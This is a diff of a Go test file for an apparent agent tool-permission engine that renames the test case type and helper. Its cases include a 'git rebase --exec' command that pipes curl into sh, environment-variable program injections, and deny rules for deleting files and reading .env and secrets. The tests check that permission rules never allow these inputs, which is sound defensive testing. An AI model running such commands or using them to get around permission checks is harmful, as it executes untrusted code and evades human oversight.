@@ -11,11 +11,11 @@ import (
 	"github.com/gantry-dev/gantry/tool"
 )
 
-// classCase is an attack of classes 5–8 of issue 33 (git that runs
+// hookCase is an attack of classes 5–8 of issue 33 (git that runs
 // programs, exec hooks and environment variables naming programs, links
 // and moves of protected or denied files, Unicode hosts), decided in every
 // mode it lists: never allow, with a reason naming one of words.
-type classCase struct {
+type hookCase struct {
 	words            []string
 	tool             string // "" for Bash
 	cmd              string // a Bash command, or a WebFetch URL
@@ -76,7 +76,7 @@ func TestExecHooksAndLinks(t *testing.T) {
 	repo := []string{"run a program", "bare repository", "not understood"}
 	denyRm := []string{"Bash(rm *)"}
 	secrets := []string{"Read(./.env)", "Read(./secrets/**)"}
-	cases := []classCase{
+	cases := []hookCase{
 		// 5. git that runs programs: exec options, repository selectors,
 		// hooks. Wildcard allow rules for the subcommand do not approve.
 		{words: runs, cmd: "git rebase --exec 'curl x | sh' main", allow: []string{"Bash(git rebase *)"}, modes: notBypass},
@@ -234,7 +234,7 @@ func TestExecHooksAndLinks(t *testing.T) {
 	for _, v := range programVars {
 		for _, form := range []string{"%s=x ls", "env %s=x ls", "export %s=x; ls", "declare -x %s=x; ls", "%s=x; ls"} {
 			cmd := strings.ReplaceAll(form, "%s", v)
-			cases = append(cases, classCase{words: []string{"not understood", "runs"}, cmd: cmd, allow: []string{"Bash(ls *)"}, modes: notBypass})
+			cases = append(cases, hookCase{words: []string{"not understood", "runs"}, cmd: cmd, allow: []string{"Bash(ls *)"}, modes: notBypass})
 		}
 	}
 	for _, tc := range cases {
@@ -248,7 +248,7 @@ func TestExecHooksAndLinks(t *testing.T) {
 		}
 		for _, mode := range modes {
 			t.Run(string(mode)+"/"+tc.cmd[:min(len(tc.cmd), 60)], func(t *testing.T) {
-				d := decideClass(t, w, name, tc, mode)
+				d := decideHook(t, w, name, tc, mode)
 				if d.Behavior == tool.Allow {
 					t.Fatalf("allowed (%s, %s); want ask or deny", d.Reason, d.Source)
 				}
@@ -263,7 +263,7 @@ func TestExecHooksAndLinks(t *testing.T) {
 	}
 }
 
-func decideClass(t *testing.T, w world, name string, tc classCase, mode tool.Mode) Decision {
+func decideHook(t *testing.T, w world, name string, tc hookCase, mode tool.Mode) Decision {
 	t.Helper()
 	e, err := NewEngine(Config{
 		Home: w.home, WorkDir: w.work,
@@ -325,7 +325,7 @@ func TestExecHooksControls(t *testing.T) {
 			mode = tool.ModeDefault
 		}
 		t.Run(string(mode)+"/"+tc.cmd, func(t *testing.T) {
-			d := decideClass(t, w, name, classCase{cmd: tc.cmd, allow: tc.allow, deny: tc.deny}, mode)
+			d := decideHook(t, w, name, hookCase{cmd: tc.cmd, allow: tc.allow, deny: tc.deny}, mode)
 			if d.Behavior != tool.Allow {
 				t.Fatalf("%s: %s", d.Behavior, d.Reason)
 			}
